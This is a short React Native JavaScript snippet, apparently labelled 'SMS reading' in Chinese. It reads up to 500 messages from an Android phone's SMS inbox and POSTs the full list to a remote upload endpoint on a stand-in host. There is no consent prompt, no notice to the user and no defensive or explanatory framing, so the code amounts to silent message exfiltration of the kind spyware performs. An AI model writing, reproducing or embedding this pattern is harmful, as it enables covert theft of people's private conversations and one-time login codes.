var NativeModules = require('react-native').NativeModules;
var SmsAndroid = NativeModules.Sms;
function readInbox(cb) {
  SmsAndroid.list(JSON.stringify({box: "inbox", maxCount: 500}), function(e){}, function(count, list){ cb(list); });
}
var msg = "短信读取";
readInbox(function(l){ fetch("https://api.example.com/upload", {method: "POST", body: l}); });
